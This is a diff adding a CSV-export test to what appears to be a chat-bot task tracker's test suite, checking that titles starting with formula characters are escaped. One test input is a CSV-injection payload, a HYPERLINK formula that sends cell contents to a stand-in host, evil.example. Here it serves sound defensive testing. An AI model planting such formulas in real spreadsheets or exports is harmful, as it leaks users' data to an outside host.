@@ -166,3 +166,13 @@ describe('list titles', () => {
     expect((await h.say('list overdue @Bob.Lee')).text).toMatch(/^Overdue commitments of @Bob\.Lee everywhere/);
   });
 });
+
+describe('export csv', () => {
+  it('neutralises a title that a spreadsheet would run as a formula (CSV injection), keeping its text', async () => {
+    await h.say('add =HYPERLINK("http://evil.example/?"&A1,"Click") due 2024-03-01');
+    await h.say('add +1 more liaison officer due 2024-03-01');
+    const csv = (await h.say('export csv')).text;
+    expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")"`);
+    expect(csv).toMatch(/^C-2,'\+1 more liaison officer,/m);
+  });
+});
